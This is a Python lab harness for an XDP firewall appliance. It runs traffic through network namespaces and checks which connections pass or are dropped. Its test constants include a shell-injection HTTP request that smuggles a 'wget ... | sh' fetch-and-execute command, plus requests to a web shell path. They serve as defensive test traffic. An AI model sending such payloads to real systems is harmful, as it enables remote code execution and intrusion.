"""`xdpfw lab`: the appliance inline in a namespace lab, with traffic, on any Linux box.

Builds the lab of xdpfw.tools.netns, starts `xdpfw run` in the firewall namespace with
the shipped rules, drives traffic through it (ping, a checksum-verified TCP transfer in
both directions, a blocked host, a blocked port), prints what passed, what was dropped
and why (from the appliance's own Prometheus metrics), stops the appliance and removes
everything it created. The same pieces drive the privileged tests and the benchmarks.
"""
from __future__ import annotations

import json
import logging
import signal
import subprocess
import sys
import tempfile
import time
import urllib.request
from dataclasses import dataclass
from pathlib import Path

from prometheus_client.parser import text_string_to_metric_families

from xdpfw.tools.netns import Lab, call_in_netns, popen_in, run_in

log = logging.getLogger("xdpfw.lab")

RULES_DIR = Path(__file__).resolve().parents[2] / "rules"
LAB_RULES = RULES_DIR / "lab.rules"
BLOCKED_HOST = "198.18.0.66"
BLOCKED_PORT = 23
ATTACK = "GET /cgi-bin/status?q=;wget http://198.18.0.99/x.sh|sh HTTP/1.0\r\n\r\n"
WEBSHELL_POST = "POST /uploads/shell.php HTTP/1.1\r\nHost: lab\r\nContent-Length: 1048576\r\n\r\n"
WEBSHELL_GET = "GET /uploads/shell.php HTTP/1.1\r\nHost: lab\r\n\r\n"


class ApplianceProcess:
    """`xdpfw run` as a child process inside the lab's firewall namespace."""

    def __init__(self, lab: Lab, *extra: str, metrics_port: int = 9640, fail_mode: str = "open"):
        self.lab = lab
        self.metrics_port = metrics_port
        self.argv = [sys.executable, "-m", "xdpfw", "run", "--inline", lab.side_a, lab.side_b,
                     "--fail-mode", fail_mode, "--metrics-listen", f"127.0.0.1:{metrics_port}", *extra]
        self.proc: subprocess.Popen | None = None
        self.output: list[str] = []

    def start(self, timeout: float = 60) -> "ApplianceProcess":
        run_in(self.lab.fw_ns, ["ip", "link", "set", "lo", "up"])
        self.proc = popen_in(self.lab.fw_ns, self.argv, stdout=subprocess.PIPE,
                             stderr=subprocess.STDOUT, text=True, bufsize=1)
        deadline = time.monotonic() + timeout
        assert self.proc.stdout is not None
        while time.monotonic() < deadline:
            line = self.proc.stdout.readline()
            if not line:
                break
            self.output.append(line.rstrip())
            if line.startswith("xdpfw: running"):
                # Drain the rest of the output in the background so the pipe never fills.
                import threading

                threading.Thread(target=self._drain, daemon=True).start()
                return self
        self.proc.kill()
        self.proc.wait()
        raise RuntimeError("xdpfw run did not start:\n" + "\n".join(self.output))

    def _drain(self) -> None:
        assert self.proc and self.proc.stdout
        for line in self.proc.stdout:
            self.output.append(line.rstrip())

    def metrics_text(self) -> str:
        url = f"http://127.0.0.1:{self.metrics_port}/metrics"
        return call_in_netns(self.lab.fw_ns, lambda: urllib.request.urlopen(url, timeout=5).read().decode())

    def metrics(self) -> dict[tuple[str, tuple], float]:
        """{(sample name, sorted label items): value}"""
        out = {}
        for fam in text_string_to_metric_families(self.metrics_text()):
            for s in fam.samples:
                out[(s.name, tuple(sorted(s.labels.items())))] = s.value
        return out

    def stop(self, sig: int = signal.SIGTERM, timeout: float = 30) -> int:
        if self.proc is None:
            return 0
        if self.proc.poll() is None:
            self.proc.send_signal(sig)
        try:
            rc = self.proc.wait(timeout)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            rc = self.proc.wait()
        return rc

    def __enter__(self):
        return self.start()

    def __exit__(self, *exc):
        self.stop()


def metric(m: dict, name: str, **labels) -> float:
    return m.get((name, tuple(sorted(labels.items()))), 0.0)


# -- traffic ------------------------------------------------------------------------------

def ping(lab: Lab, src_ns: str, dst_ip: str, count: int = 3, source: str | None = None,
         interval: float = 0.2) -> int:
    """Number of echo replies received."""
    argv = ["ping", "-n", "-q", "-c", str(count), "-i", str(interval), "-W", "1", dst_ip]
    if source:
        argv[1:1] = ["-I", source]
    res = run_in(src_ns, argv, check=False)
    for line in res.stdout.splitlines():
        if "received" in line:
            return int(line.split(",")[1].split()[0])
    return 0


@dataclass
class TransferResult:
    ok: bool
    bytes: int
    seconds: float
    detail: dict

    @property
    def mbit_s(self) -> float:
        return self.bytes * 8 / self.seconds / 1e6 if self.seconds else 0.0


def tls_certificate(directory) -> tuple[str, str]:
    """A self-signed certificate and its key (PEM files in directory) for TLS transfers."""
    import datetime
    from pathlib import Path

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "lab.xdpfw.test")])
    now = datetime.datetime(2025, 1, 1)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=3650))
            .sign(key, hashes.SHA256()))
    cp, kp = Path(directory) / "lab-cert.pem", Path(directory) / "lab-key.pem"
    cp.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    kp.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                     serialization.NoEncryption()))
    return str(cp), str(kp)


def tcp_transfer(lab: Lab, src_ns: str, dst_ns: str, dst_ip: str, nbytes: int,
                 port: int = 5201, timeout: float = 120, prefix: str = "",
                 tls: tuple[str, str] | None = None, cpus: str | None = None) -> TransferResult:
    """Send nbytes over TCP from src_ns to dst_ip (starting with `prefix`); both ends'
    sha256 must agree. tls: (certificate, key) files - the transfer runs in TLS. cpus: pin
    both ends (taskset -c) for benchmarks."""
    py = (["taskset", "-c", cpus] if cpus else []) + [sys.executable, "-m", "xdpfw.tools.traffic"]
    srv = popen_in(dst_ns, py + ["serve", "--port", str(port), "--timeout", str(timeout)]
                   + (["--tls", *tls] if tls else []),
                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        first = srv.stdout.readline()
        if "listening" not in first:
            raise RuntimeError(f"receiver did not start: {first} {srv.stderr.read()}")
        cli = run_in(src_ns, py + ["send", "--host", dst_ip, "--port", str(port), "--bytes", str(nbytes),
                                   "--timeout", str(timeout), "--prefix", prefix]
                     + (["--tls"] if tls else []),
                     check=False, timeout=timeout + 10)
        sent = json.loads(cli.stdout.strip().splitlines()[-1]) if cli.stdout.strip() else {"error": cli.stderr}
        out, _ = srv.communicate(timeout=timeout + 5)
        recv = json.loads(out.strip().splitlines()[-1]) if out.strip() else {}
    finally:
        if srv.poll() is None:
            srv.kill()
            srv.wait()
    ok = bool(sent.get("ok")) and recv.get("sha256") == sent.get("sha256") and recv.get("bytes") == nbytes
    return TransferResult(ok, recv.get("bytes", 0), float(sent.get("seconds") or 0), {"sent": sent, "received": recv})


def tcp_probe(lab: Lab, src_ns: str, dst_ns: str, dst_ip: str, port: int, timeout: float = 2) -> bool:
    """True when a TCP connection to dst_ip:port is established (a listener runs there)."""
    py = [sys.executable, "-m", "xdpfw.tools.traffic"]
    srv = popen_in(dst_ns, py + ["serve", "--port", str(port), "--timeout", str(timeout + 2)],
                   stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        srv.stdout.readline()
        res = run_in(src_ns, py + ["probe", "--host", dst_ip, "--port", str(port), "--timeout", str(timeout)],
                     check=False)
        return bool(json.loads(res.stdout.strip().splitlines()[-1]).get("connected"))
    finally:
        srv.kill()
        srv.wait()


# -- the command ----------------------------------------------------------------------------

def add_arguments(p) -> None:
    p.add_argument("--rules", action="append", default=None, metavar="PATH",
                   help=f"rules to run with (default: the shipped {LAB_RULES.relative_to(RULES_DIR.parent)})")
    p.add_argument("--transfer-mb", type=int, default=20, help="size of each TCP transfer (MB)")
    p.add_argument("--queues", type=int, default=None,
                   help="active queues per veth (default: a plain veth, one active queue); "
                        "xdpfw runs one worker per active queue by itself")
    p.add_argument("--prefix", default="xdpfw-lab", help="namespace name prefix")
    p.add_argument("--keep", action="store_true", help="keep running until Ctrl-C before cleaning up")


def _row(name: str, ok: bool, detail: str) -> str:
    return f"  {'PASS' if ok else 'FAIL'}  {name:<50} {detail}"


def run(args) -> int:
    rules = args.rules or [str(LAB_RULES)]
    results: list[bool] = []
    with Lab(prefix=args.prefix, queues=args.queues) as lab:
        lab.add_address(lab.client, f"{BLOCKED_HOST}/24")
        eve_dir = tempfile.TemporaryDirectory(prefix="xdpfw-lab-")
        eve = Path(eve_dir.name) / "eve.json"
        extra = [a for r in rules for a in ("--rules", r)]
        app = ApplianceProcess(lab, *extra, "--eve", str(eve))
        try:
            app.start()
            print(f"\nxdpfw inline between {lab.side_a} (client side) and {lab.side_b} (server side), "
                  f"rules: {', '.join(rules)}\n")
            lines = []
            n = ping(lab, lab.client.ns, lab.server.ip, count=5)
            results.append(n == 5)
            lines.append(_row("ping client -> server", n == 5, f"{n}/5 replies"))
            n = ping(lab, lab.server.ns, lab.client.ip, count=5)
            results.append(n == 5)
            lines.append(_row("ping server -> client", n == 5, f"{n}/5 replies"))
            size = args.transfer_mb << 20
            for name, src, dst, ip in (("TCP client -> server", lab.client.ns, lab.server.ns, lab.server.ip),
                                       ("TCP server -> client", lab.server.ns, lab.client.ns, lab.client.ip)):
                t = tcp_transfer(lab, src, dst, ip, size)
                results.append(t.ok)
                lines.append(_row(f"{name}, {args.transfer_mb} MB, sha256 checked", t.ok,
                                  f"{t.bytes} bytes, {t.mbit_s:.0f} Mbit/s"))
            n = ping(lab, lab.client.ns, lab.server.ip, count=3, source=BLOCKED_HOST)
            results.append(n == 0)
            lines.append(_row(f"ping from blocked host {BLOCKED_HOST}", n == 0, f"{n}/3 replies (expected 0)"))
            ok = not tcp_probe(lab, lab.client.ns, lab.server.ns, lab.server.ip, BLOCKED_PORT)
            results.append(ok)
            lines.append(_row(f"TCP connect to blocked port {BLOCKED_PORT}", ok,
                              "refused by the appliance" if ok else "connected (expected blocked)"))
            t = tcp_transfer(lab, lab.client.ns, lab.server.ns, lab.server.ip, 1 << 20, port=8080,
                             timeout=5, prefix=ATTACK)
            ok = not t.ok and t.bytes == 0
            results.append(ok)
            lines.append(_row("TCP request carrying a shell-injection payload", ok,
                              "dropped by rule sid:9000003" if ok else f"{t.bytes} bytes got through"))
            t = tcp_transfer(lab, lab.client.ns, lab.server.ns, lab.server.ip, 1 << 20, port=8081,
                             prefix="GET /cgi-bin/status?q=uptime HTTP/1.0\r\n\r\n")
            results.append(t.ok)
            lines.append(_row("the same request without the payload", t.ok, "passed"))
            t = tcp_transfer(lab, lab.client.ns, lab.server.ns, lab.server.ip, 1 << 20, port=8082,
                             timeout=5, prefix=WEBSHELL_POST)
            ok = not t.ok and t.bytes == 0
            results.append(ok)
            lines.append(_row("HTTP POST to a web shell path", ok,
                              "dropped by rule sid:9000004 (http.method + http.uri)" if ok
                              else f"{t.bytes} bytes got through"))
            t = tcp_transfer(lab, lab.client.ns, lab.server.ns, lab.server.ip, 1 << 20, port=8083,
                             prefix=WEBSHELL_GET)
            results.append(t.ok)
            lines.append(_row("HTTP GET of the same path", t.ok, "passed"))
            print("traffic:")
            print("\n".join(lines))
            print()
            print(summarize_metrics(app.metrics(), lab))
            time.sleep(0.5)  # the daemon drains alert rings every 0.2 s
            alerts = [json.loads(x) for x in eve.read_text().splitlines()] if eve.exists() else []
            print(f"\nEVE records written by the appliance ({eve}):")
            for a in alerts:
                what = (f"sid:{a['alert']['signature_id']} {a['alert']['action']} \"{a['alert']['signature']}\""
                        if "alert" in a else f"reason: {a.get('drop', {}).get('reason', '?')}")
                app_proto = f" [{a['app_proto']}]" if a.get("app_proto") else ""
                print(f"  {a['timestamp']} {a['event_type']:<5} {a['src_ip']}:{a.get('src_port')} -> "
                      f"{a['dest_ip']}:{a.get('dest_port')}{app_proto} {what}")
            for sid in (9000003, 9000004):
                ok = any(a["event_type"] == "alert" and a["alert"]["signature_id"] == sid
                         and a["alert"]["action"] == "blocked" for a in alerts)
                results.append(ok)
                if not ok:
                    print(f"  FAIL  no blocked alert for sid:{sid}")
            if args.keep:
                print(f"\nlab kept: namespaces {', '.join(lab.namespaces)}; metrics inside {lab.fw_ns} "
                      f"at http://127.0.0.1:{app.metrics_port}/metrics. Ctrl-C to clean up.")
                try:
                    signal.pause()
                except KeyboardInterrupt:
                    pass
        finally:
            rc = app.stop()
        eve_dir.cleanup()
        print(f"\nappliance stopped (exit {rc}); XDP detached; removing namespaces {', '.join(lab.namespaces)}")
        results.append(rc == 0)
    ok = all(results)
    print(f"\nlab {'OK' if ok else 'FAILED'}: {sum(results)}/{len(results)} checks passed")
    return 0 if ok else 1


def summarize_metrics(m: dict, lab: Lab) -> str:
    """A table of what the appliance reports, by device: passed, dropped by reason."""
    out = ["appliance metrics (from its Prometheus endpoint):",
           f"  {'device':<8} {'received':>10} {'forwarded':>10} {'xdp->worker':>12} {'fail-open':>10}  dropped by reason"]
    for dev in (lab.side_a, lab.side_b):
        drops = {dict(labels)["reason"]: v for (name, labels), v in m.items()
                 if name == "xdpfw_dropped_packets_total" and dict(labels).get("device") == dev and v}
        out.append(f"  {dev:<8} {metric(m, 'xdpfw_received_packets_total', device=dev):>10.0f} "
                   f"{metric(m, 'xdpfw_forwarded_packets_total', device=dev):>10.0f} "
                   f"{metric(m, 'xdpfw_xdp_packets_total', device=dev, action='to_worker'):>12.0f} "
                   f"{metric(m, 'xdpfw_xdp_packets_total', device=dev, action='fail_open'):>10.0f}  "
                   + (", ".join(f"{r}={v:.0f}" for r, v in sorted(drops.items())) or "none"))
    out.append(f"  frame accounting errors: {metric(m, 'xdpfw_frame_accounting_errors_total'):.0f}")
    return "\n".join(out)
